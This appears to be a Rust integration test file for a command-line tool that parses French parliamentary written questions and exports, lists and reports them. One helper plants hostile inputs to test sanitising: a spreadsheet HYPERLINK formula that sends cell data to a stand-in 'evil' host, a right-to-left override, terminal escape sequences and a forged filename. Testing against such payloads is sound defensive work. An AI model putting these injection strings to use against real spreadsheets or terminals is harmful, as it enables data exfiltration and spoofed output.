//! The command line on the sample dossier and on files made in the test: export, check,
//! stats, list, report, config; the outputs snapshotted; bad paths, bad queries, closed
//! pipes; and text from files that must not reach a terminal or a spreadsheet raw.

use crate::util::{assets, copy_assets, fixture, stderr, stdout, Sandbox};
use serde_json::Value;
use std::io::Read;
use std::path::Path;
use std::process::Stdio;

fn export_json(s: &Sandbox, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["export", "--format", "json"];
    all.extend_from_slice(args);
    serde_json::from_str(&s.ok(&all)).expect("export JSON")
}

fn by_id<'a>(records: &'a [Value], id: &str) -> &'a Value {
    records
        .iter()
        .find(|r| r["id"] == id)
        .unwrap_or_else(|| panic!("no record {id}"))
}

#[test]
fn export_json_on_the_sample() {
    let s = Sandbox::new();
    let records = export_json(&s, &[]);
    let ids: Vec<&str> = records.iter().filter_map(|r| r["id"].as_str()).collect();
    assert_eq!(
        ids,
        [
            "17-13809QE",
            "17-13985QE",
            "17-13811QE",
            "17-16300QE",
            "16-16353QE"
        ]
    );
    let answered = by_id(&records, "17-13809QE");
    assert_eq!(answered["status"], "answered");
    assert_eq!(
        (
            answered["kind"].as_str(),
            answered["legislature"].as_u64(),
            answered["number"].as_u64()
        ),
        (Some("QE"), Some(17), Some(13809))
    );
    assert_eq!(answered["events"][1]["kind"], "answer_published");
    assert_eq!(answered["events"][1]["date"], "2026-05-12");
    assert_eq!(answered["events"][1]["page"], 4262);
    assert_eq!(answered["answer_delay_days"], 49);
    assert_eq!(answered["overdue_days"], Value::Null);
    let withdrawn = by_id(&records, "16-16353QE");
    assert_eq!(withdrawn["status"], "withdrawn");
    assert_eq!(withdrawn["events"][1]["date"], "2024-06-11");
    assert_eq!(withdrawn["events"][1]["note"], "Fin de mandat");
    // The three others: pending and overdue, with their deadline and counts of days.
    for (id, deadline, pending, overdue) in [
        ("17-13985QE", "2026-05-31", 236, 175),
        ("17-13811QE", "2026-05-24", 243, 182),
        ("17-16300QE", "2026-08-23", 152, 91),
    ] {
        let r = by_id(&records, id);
        assert_eq!(r["status"], "pending", "{id}");
        assert_eq!(r["deadline"], deadline, "{id}");
        assert_eq!(r["deadline_rule"], "two_months", "{id}");
        assert_eq!(r["days_pending"], pending, "{id}");
        assert_eq!(r["overdue_days"], overdue, "{id}");
        assert_eq!(
            r["answer_text"],
            Value::Null,
            "{id}: no answer is null, not \"\""
        );
    }
}

#[test]
fn exported_json_reads_back_as_the_loaded_questions() {
    let s = Sandbox::new();
    let records = export_json(&s, &[]);
    let sample = dossier_core::load::load_sample().questions;
    assert_eq!(records.len(), sample.len());
    for (record, question) in records.into_iter().zip(&sample) {
        let back: dossier_core::model::Question =
            serde_json::from_value(record).expect("a record reads back");
        assert_eq!(&back, question);
    }
}

#[test]
fn a_field_the_document_does_not_give_is_null() {
    let s = Sandbox::new();
    let records = export_json(
        &s,
        &[fixture("variants/no_constituency.md").to_str().unwrap()],
    );
    assert_eq!(records[0]["constituency"], Value::Null);
    assert_eq!(records[0]["group"], Value::Null);
    let records = export_json(&s, &[fixture("variants/no_title.txt").to_str().unwrap()]);
    assert_eq!(records[0]["title"], Value::Null);
}

#[test]
fn export_csv_header_and_rows() {
    let s = Sandbox::new();
    let out = s.ok(&["export", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "legislature",
            "kind",
            "number",
            "status",
            "title",
            "author",
            "constituency",
            "group",
            "rubric",
            "ministry_asked",
            "ministry_assigned",
            "published",
            "published_page",
            "answered",
            "answer_page",
            "withdrawn",
            "withdrawal_reason",
            "signaled",
            "deadline",
            "deadline_rule",
            "days_pending",
            "overdue_days",
            "answer_delay_days",
            "source",
            "related",
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
    let col = |row: &csv::StringRecord, name: &str| {
        row[header.iter().position(|h| h == name).expect("column")].to_string()
    };
    assert_eq!(rows.len(), 5);
    assert_eq!(col(&rows[0], "id"), "17-13809QE");
    // A comma inside a field is quoted, not a new column.
    assert_eq!(
        col(&rows[0], "ministry_asked"),
        "Santé, familles, autonomie et personnes handicapées"
    );
    assert_eq!(
        (col(&rows[0], "published"), col(&rows[0], "published_page")),
        ("2026-03-24".into(), "2494".into())
    );
    assert_eq!(
        col(&rows[1], "title"),
        "Crise d'ASALEE : arrêt des financements et risques pour les soins de proximité"
    );
    assert_eq!(
        (col(&rows[1], "deadline"), col(&rows[1], "overdue_days")),
        ("2026-05-31".into(), "175".into())
    );
    assert_eq!(col(&rows[4], "withdrawal_reason"), "Fin de mandat");
    assert_eq!(col(&rows[4], "group"), "Écologiste - NUPES");
}

#[test]
fn check_says_what_it_read_in_both_languages() {
    let s = Sandbox::new();
    assert_eq!(
        s.ok(&["check"]),
        "5 questions, 0 fichier ignoré, 0 avertissement\n"
    );
    assert_eq!(
        s.ok(&["--lang", "en", "check"]),
        "5 questions, 0 skipped, 0 warnings\n"
    );
}

#[test]
fn check_names_a_bad_file_and_its_line_and_exits_1() {
    let s = Sandbox::new();
    let dir = s.path("d");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(
        assets().join("000_ca7e1411996a7a9f.txt"),
        dir.join("13809.txt"),
    )
    .unwrap();
    let bad = dir.join("notes.md");
    std::fs::write(&bad, "\nCompte rendu de réunion\n\nRien à signaler.\n").unwrap();
    let out = s.run(&["--lang", "en", "check", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2, "{text}");
    assert!(
        lines[0].starts_with(&format!("{}:2: skipped: no question number", bad.display())),
        "{}",
        lines[0]
    );
    assert_eq!(lines[1], "1 question, 1 skipped, 0 warnings");
    let out = s.run(&["check", dir.to_str().unwrap()]);
    assert!(
        stdout(&out).contains(":2: ignoré\u{a0}: pas de numéro de question"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn a_page_number_glued_to_the_next_line_is_warned_and_both_events_kept() {
    let s = Sandbox::new();
    let dir = s.path("d");
    std::fs::create_dir_all(&dir).unwrap();
    let doc = "17e législature\n\nQuestion écrite n° 4242\n\nTexte de la question\n\n\
               Mme A interroge M. le ministre.\n\nDonnées clés\n\nAuteur : Mme A\n\n\
               Question publiée au JO le : 3 mars 2026, page 2651Date de signalement : \
               5 mai 2026\n";
    std::fs::write(dir.join("glued.txt"), doc).unwrap();
    let out = s.run(&["--lang", "en", "check", dir.to_str().unwrap()]);
    let text = stdout(&out);
    assert!(
        text.contains(
            "glued.txt:13: warning: text glued after the date of 'Question publiée au JO le': \
             'Date de signalement : 5 mai 2026' read as a line of its own (a lost line break?)"
        ),
        "{text}"
    );
    let out = s.run(&["check", dir.to_str().unwrap()]);
    assert!(
        stdout(&out).contains("lu comme une ligne à part"),
        "{}",
        stdout(&out)
    );
    let records = export_json(&s, &[dir.to_str().unwrap()]);
    let events = records[0]["events"].as_array().unwrap();
    let kinds: Vec<(&str, &str, Option<u64>)> = events
        .iter()
        .map(|e| {
            (
                e["kind"].as_str().unwrap(),
                e["date"].as_str().unwrap(),
                e["page"].as_u64(),
            )
        })
        .collect();
    assert_eq!(
        kinds,
        [
            ("question_published", "2026-03-03", Some(2651)),
            ("signaled", "2026-05-05", None)
        ]
    );
}

#[test]
fn the_same_folder_named_twice_is_read_once() {
    let s = Sandbox::new();
    let dir = s.path("seeds");
    copy_assets(&dir);
    let absolute = dir.display().to_string();
    let out = s.run(&[
        "check",
        "seeds",
        &absolute,
        "seeds/000_ca7e1411996a7a9f.txt",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert_eq!(
        stdout(&out),
        "5 questions, 0 fichier ignoré, 0 avertissement\n"
    );
}

#[test]
fn stats_on_the_sample() {
    let s = Sandbox::new();
    let text = s.ok(&["--lang", "en", "stats"]);
    let figures: Vec<Vec<&str>> = text
        .lines()
        .take(5)
        .map(|l| l.split_whitespace().collect())
        .collect();
    assert_eq!(
        figures,
        [
            vec!["Questions", "5"],
            vec!["answered", "1"],
            vec!["pending", "3"],
            vec!["overdue", "3"],
            vec!["withdrawn", "1"]
        ]
    );
    let stats: Value = serde_json::from_str(&s.ok(&["stats", "--format", "json"])).unwrap();
    assert_eq!(
        (stats["total"].as_u64(), stats["overdue"].as_u64()),
        (Some(5), Some(3))
    );
    assert_eq!(stats["median_answer_delay_days"], 49.0);
    insta::assert_snapshot!("stats_fr", s.ok(&["stats"]));
}

#[test]
fn dossier_today_sets_the_date_and_today_overrides_it() {
    let s = Sandbox::new();
    let pending = |records: &[Value]| {
        let r = by_id(records, "17-13985QE");
        (r["days_pending"].clone(), r["overdue_days"].clone())
    };
    // Published 31 March 2026, due 31 May 2026.
    let out = s
        .cmd()
        .env("DOSSIER_TODAY", "2026-06-01")
        .arg("export")
        .output()
        .unwrap();
    let records: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(pending(&records), (Value::from(62), Value::from(1)));
    let records = export_json(&s, &["--today", "2026-04-10"]);
    assert_eq!(pending(&records), (Value::from(10), Value::Null));
    let out = s.run(&["export", "--today", "2026-02-30"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("--today"), "{}", stderr(&out));
}

#[test]
fn a_missing_path_is_a_clear_error_naming_it() {
    let s = Sandbox::new();
    let missing = s.path("no-such-dossier");
    for command in ["export", "check", "stats", "list", "report"] {
        let out = s.run(&[
            "--lang",
            "en",
            command,
            assets().to_str().unwrap(),
            missing.to_str().unwrap(),
        ]);
        assert_eq!(out.status.code(), Some(2), "{command}");
        assert!(
            out.stdout.is_empty(),
            "{command}: nothing printed on stdout"
        );
        assert!(
            stderr(&out).contains(&format!("cannot open {}", missing.display())),
            "{command}: {}",
            stderr(&out)
        );
    }
    let out = s.run(&[missing.to_str().unwrap()]);
    assert!(
        stderr(&out).contains("impossible d'ouvrir"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_command_misspelt_or_missing_is_suggested() {
    let s = Sandbox::new();
    for (typed, command) in [("stat", "stats"), ("exprt", "export"), ("reveiw", "review")] {
        let out = s.run(&["--lang", "en", typed]);
        assert_eq!(out.status.code(), Some(2), "{typed}");
        assert!(
            stderr(&out).contains(&format!("did you mean the command `dossier {command}`")),
            "{typed}: {}",
            stderr(&out)
        );
    }
}

#[test]
fn the_viewer_without_a_terminal_says_what_to_use_instead() {
    let s = Sandbox::new();
    let out = s
        .cmd()
        .stdout(Stdio::piped())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("le visualiseur a besoin d'un terminal"),
        "{err}"
    );
    assert!(err.contains("dossier list"), "{err}");
}

#[test]
fn list_formats_sorts_and_filters_like_the_viewer() {
    let s = Sandbox::new();
    let ids = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["list", "--format", "ids"];
        all.extend_from_slice(args);
        s.ok(&all).lines().map(String::from).collect()
    };
    assert_eq!(
        ids(&[]),
        [
            "17-16300QE",
            "17-13985QE",
            "17-13809QE",
            "17-13811QE",
            "16-16353QE"
        ]
    );
    assert_eq!(
        ids(&["-q", "statut:attente", "-s", "number"]),
        ["17-13811QE", "17-13985QE", "17-16300QE"]
    );
    assert_eq!(
        ids(&["-q", "statut:attente", "-s", "deadline"]),
        ["17-13811QE", "17-13985QE", "17-16300QE"]
    );
    assert_eq!(
        ids(&["-s", "number", "-r"]),
        [
            "16-16353QE",
            "17-16300QE",
            "17-13985QE",
            "17-13811QE",
            "17-13809QE"
        ]
    );
    // A value starting with `-` is a query, not an option.
    assert_eq!(
        ids(&["--query", "-auteur:batho", "-s", "number"]),
        ["17-13809QE", "17-13811QE", "17-13985QE", "17-16300QE"]
    );
    let json: Value = serde_json::from_str(&s.ok(&["list", "-q", "batho", "-f", "json"])).unwrap();
    assert_eq!(json[0]["id"], "16-16353QE");
    let csv = s.ok(&["list", "-q", "is:overdue", "-f", "csv"]);
    assert_eq!(csv.lines().count(), 4, "header and three rows");
    insta::assert_snapshot!("list_table_fr", s.ok(&["list"]));
    insta::assert_snapshot!(
        "list_table_en",
        s.ok(&["--lang", "en", "list", "-s", "deadline"])
    );
}

#[test]
fn an_invalid_query_shows_a_caret_and_exits_2() {
    let s = Sandbox::new();
    let out = s.run(&["--lang", "en", "list", "-q", "asalee foo:bar"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert_eq!(stderr(&out), "dossier: invalid query: unknown field `foo:` (fields: status, author, group, min, rubric, place, id, leg, type, since, until, is, similar, has, text)\n  asalee foo:bar\n         ^^^\n");
    // In French, with its typography; no `?`, which only the viewer answers.
    let out = s.run(&["list", "-q", "foo:bar"]);
    assert!(
        stderr(&out).starts_with("dossier\u{a0}: filtre invalide\u{a0}: champ inconnu «\u{a0}foo:\u{a0}» (champs\u{a0}: status, author,"),
        "{}",
        stderr(&out)
    );
    let out = s.run(&["list", "-q", "statut:peutetre"]);
    assert!(
        stderr(&out).contains(
            "«\u{a0}statut:\u{a0}» n'accepte pas «\u{a0}peutetre\u{a0}» (attendu\u{a0}: attente, repondu ou retire)"
        ),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let s = Sandbox::new();
    for args in [
        ["export", "--format", "csv"],
        ["export", "--format", "json"],
        ["list", "--format", "ids"],
    ] {
        let mut child = s
            .cmd()
            .args(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = child.stdout.take().unwrap();
        let mut first = [0u8; 1];
        out.read_exact(&mut first).unwrap();
        drop(out);
        let status = child.wait().unwrap();
        let mut err = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
        assert_eq!(status.code(), Some(0), "{args:?}: {err}");
        assert!(
            !err.contains("Broken pipe") && !err.contains("roken pipe"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn config_prints_the_documented_default_and_a_bad_file_is_named_with_its_line() {
    let s = Sandbox::new();
    let default = s.ok(&["config", "--default"]);
    assert!(
        default.contains("[keys.normal]") && default.contains("[theme.dark]"),
        "{default}"
    );
    let file = s.path("bad.toml");
    std::fs::write(&file, "lang = \"en\"\nsort = \"sideways\"\n").unwrap();
    let out = s.run(&["--config", file.to_str().unwrap(), "check"]);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains(&format!(
            "{}:2: unknown sort key `sideways`",
            file.display()
        )),
        "{}",
        stderr(&out)
    );
    // The rest of the file still counts: the language is English.
    assert_eq!(stdout(&out), "5 questions, 0 skipped, 0 warnings\n");
}

#[test]
fn config_names_a_key_or_a_colour_that_does_not_parse_with_its_line() {
    let s = Sandbox::new();
    let file = s.path("keys.toml");
    std::fs::write(
        &file,
        "lang = \"en\"\n[keys.normal]\nquit = [\"fly\"]\n[theme.dark]\npending = { fg = \"nocolor\" }\n",
    )
    .unwrap();
    let out = s.run(&["--config", file.to_str().unwrap(), "config"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains(&format!("{}:3:", file.display())), "{err}");
    assert!(err.contains("fly"), "{err}");
    assert!(err.contains("nocolor"), "{err}");
}

/// A question document with hostile text in its fields.
fn hostile(dir: &Path) -> std::path::PathBuf {
    let text = std::fs::read_to_string(assets().join("000_ca7e1411996a7a9f.txt"))
        .unwrap()
        .replace(
            "Avenir des salariés du dispositif Asalée",
            "=HYPERLINK(\"http://evil/?d=\"&A1,\"x\")",
        )
        .replace("Mme Sylvie Bonnet", "+Mme Sylvie Bonnet\u{202e}tebnoB")
        .replace("Rubrique : Santé", "Rubrique : Santé\u{1b}]2;PWNED\u{7}");
    std::fs::create_dir_all(dir).unwrap();
    let path = dir.join("hostile.txt");
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn csv_cells_are_neutralised_for_spreadsheets() {
    let s = Sandbox::new();
    let path = hostile(&s.path("h"));
    let out = s.ok(&["export", "--format", "csv", path.to_str().unwrap()]);
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[5], "'=HYPERLINK(\"http://evil/?d=\"&A1,\"x\")");
    assert!(row[6].starts_with("'+Mme"), "{}", &row[6]);
    assert!(
        !out.contains('\u{1b}') && !out.contains('\u{202e}'),
        "no raw control in CSV"
    );
    let list = s.ok(&["list", "-f", "csv", path.to_str().unwrap()]);
    assert!(list.contains("'=HYPERLINK"), "{list}");
}

#[test]
fn nothing_from_a_file_reaches_the_terminal_raw() {
    let s = Sandbox::new();
    let dir = s.path("h");
    let path = hostile(&dir);
    // A file name with a line break and an escape cannot forge or hide a diagnostic line.
    let forged = dir.join("evil\nforged.txt:1: warning: forged\u{1b}[2J.txt");
    std::fs::write(&forged, "pas une question").unwrap();
    for args in [
        vec!["list", path.to_str().unwrap()],
        vec!["report", path.to_str().unwrap()],
        vec!["check", dir.to_str().unwrap()],
        vec!["export", path.to_str().unwrap()],
        vec!["stats", path.to_str().unwrap()],
    ] {
        let out = s.run(&args);
        let all = format!("{}{}", stdout(&out), stderr(&out));
        for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
            assert!(
                !all.contains(c),
                "{args:?}: raw {c:?} in the output:\n{all}"
            );
        }
    }
    let check = s.run(&["check", dir.to_str().unwrap()]);
    let lines: Vec<String> = stdout(&check).lines().map(String::from).collect();
    assert!(
        lines.iter().all(|l| !l.starts_with("forged.txt")),
        "a forged line: {lines:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains("evil␊forged.txt") && l.contains("␛[2J")),
        "{lines:?}"
    );
}

#[test]
fn markdown_reports_snapshot_in_both_languages() {
    let s = Sandbox::new();
    let review = s.path("r.json");
    let review = review.to_str().unwrap();
    s.ok(&[
        "--review-file",
        review,
        "review",
        "note",
        "17-13985QE",
        "Relancer le cabinet\nAppel prévu le 3",
    ]);
    s.ok(&[
        "--review-file",
        review,
        "review",
        "note",
        "17-13811QE",
        "a|b\rc",
    ]);
    insta::assert_snapshot!("report_md_fr", s.ok(&["--review-file", review, "report"]));
    insta::assert_snapshot!(
        "report_md_en",
        s.ok(&["--review-file", review, "--lang", "en", "report"])
    );
    let csv = s.ok(&["--review-file", review, "report", "--format", "csv"]);
    assert_eq!(csv.lines().next(), Some("id,title,author,group,ministry,status,published,signaled,deadline,deadline_rule,days_pending,overdue_days,flagged,reviewed,note,urgency"));
    let json: Value =
        serde_json::from_str(&s.ok(&["--review-file", review, "report", "--format", "json"]))
            .unwrap();
    let ids: Vec<&str> = json["questions"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r["id"].as_str())
        .collect();
    assert_eq!(
        ids,
        ["17-13811QE", "17-13985QE", "17-16300QE"],
        "earliest deadline first"
    );
    assert_eq!(json["summary"]["with_note"], 2);
}

#[test]
fn a_signalee_question_leads_the_report_by_its_ten_day_deadline() {
    let s = Sandbox::new();
    let dir = s.path("d");
    copy_assets(&dir);
    let path = dir.join("003_d03222e0d74a5826.txt");
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("17-16300") || text.contains("16300"));
    let signaled = text.replacen(
        "Question publiée au JO le :",
        "Date de signalement : 24 novembre 2026\n\nQuestion publiée au JO le :",
        1,
    );
    std::fs::write(&path, signaled).unwrap();
    let out = s.ok(&["report", "--today", "2026-11-25", dir.to_str().unwrap()]);
    let rows: Vec<&str> = out.lines().filter(|l| l.starts_with("| 17-")).collect();
    assert!(rows[0].starts_with("| 17-16300QE"), "{out}");
    assert!(
        rows[0].contains("▲ 24/11/2026") && rows[0].contains("04/12/2026 (10 j, signalée)"),
        "{}",
        rows[0]
    );
}

#[test]
fn report_takes_a_query_and_an_unreadable_review_file_is_said() {
    let s = Sandbox::new();
    let review = s.path("r.json");
    let out = s.ok(&[
        "--review-file",
        review.to_str().unwrap(),
        "report",
        "-q",
        "batho",
        "-f",
        "csv",
    ]);
    assert!(
        out.contains("16-16353QE") && out.lines().count() == 2,
        "{out}"
    );
    std::fs::write(&review, "{ not json").unwrap();
    let out = s.run(&[
        "--lang",
        "en",
        "--review-file",
        review.to_str().unwrap(),
        "report",
    ]);
    assert_eq!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("review marks and notes not shown"),
        "{}",
        stderr(&out)
    );
    let out = s.run(&[
        "--lang",
        "en",
        "--review-file",
        review.to_str().unwrap(),
        "list",
        "-q",
        "has:note",
    ]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "a query on unreadable marks is an error, not an empty list"
    );
    assert!(
        stderr(&out).contains("the query uses review marks, which cannot be read"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(&review).unwrap(),
        "{ not json",
        "left untouched"
    );
}

#[test]
fn completions_and_the_manual_page_come_from_the_command_line_s_definitions() {
    let s = Sandbox::new();
    let bash = s.ok(&["completions", "bash"]);
    assert!(bash.starts_with("_dossier()"), "{bash}");
    for command in ["import", "dossiers", "export", "review", "completions"] {
        assert!(bash.contains(command), "{command} completed");
    }
    let zsh = s.ok(&["completions", "zsh"]);
    assert!(zsh.starts_with("#compdef dossier"), "{zsh}");
    let fish = s.ok(&["completions", "fish"]);
    assert!(fish.contains("complete -c dossier"), "{fish}");
    let man = s.ok(&["man"]);
    assert!(man.contains(".TH dossier 1"), "{man}");
    assert!(
        man.contains("Filter language"),
        "the filter language is in the manual"
    );
    // An unknown shell is refused by the argument parser, with the list.
    let out = s.run(&["completions", "tcsh"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("bash"), "{}", stderr(&out));
}

#[test]
fn the_help_explains_the_filter_language_with_every_field() {
    let s = Sandbox::new();
    let help = s.ok(&["--help"]);
    for term in [
        "status:pending",
        "is:campaign",
        "is:answered-elsewhere",
        "similar:17-13809QE",
        "is:lapsed",
        "place:",
        "text:word",
        "since:2026-01-01",
    ] {
        assert!(help.contains(term), "{term} in --help");
    }
    // Every field the help names is one the parser knows.
    for query in [
        "place:loire",
        "lieu:loire",
        "similar:13809",
        "est:campagne",
        "a:note",
    ] {
        s.ok(&["list", "-q", query]);
    }
}

#[test]
fn a_question_left_pending_by_an_ended_legislature_has_lapsed_and_no_deadline_runs() {
    let s = Sandbox::new();
    let dir = s.path("docs");
    copy_assets(&dir);
    // 17-16300QE, as if asked in the 16th legislature and never answered.
    let file = dir.join("003_d03222e0d74a5826.txt");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        text.replace("17ème législature", "16ème législature"),
    )
    .unwrap();
    let d = dir.to_str().unwrap();
    let records: Vec<Value> = serde_json::from_str(&s.ok(&["export", d])).unwrap();
    let lapsed = records.iter().find(|r| r["id"] == "16-16300QE").unwrap();
    assert_eq!(lapsed["lapsed"], true);
    assert_eq!(lapsed["deadline"], Value::Null);
    assert_eq!(lapsed["overdue_days"], Value::Null);
    let live = records.iter().find(|r| r["id"] == "17-13811QE").unwrap();
    assert!(live.get("lapsed").is_none(), "only said when true");
    let overdue = s.ok(&["list", "-q", "is:overdue", "-f", "ids", d]);
    assert!(!overdue.contains("16-16300QE"), "{overdue}");
    let memo = s.ok(&["report", d]);
    assert!(
        !memo.contains("16-16300QE"),
        "the memo is of questions still awaited"
    );
}

/// The diagnostics log goes to a file in the state folder, never to the terminal: a good run
/// at the default level writes nothing; `DOSSIER_LOG=info` keeps each load, timed; the error
/// that ends a command is kept at the default level.
#[test]
fn the_log_is_a_file_in_the_state_folder() {
    let s = Sandbox::new();
    let log = s.path("state/dossier/dossier.log");
    let sample = assets().display().to_string();
    s.ok(&["check", &sample]);
    assert!(!log.exists(), "a good run logs nothing by default");

    let out = s
        .cmd()
        .env("DOSSIER_LOG", "info")
        .args(["check", &sample])
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(!stderr(&out).contains("INFO"), "{}", stderr(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("load files=5 cached=5 questions=5 skipped=0"),
        "{text}"
    );

    let out = s.run(&["review", "import", "missing.json"]);
    assert!(!out.status.success());
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        text.contains("ERROR") && text.contains("command failed"),
        "{text}"
    );
    assert!(!stderr(&out).contains("command failed"), "{}", stderr(&out));
}
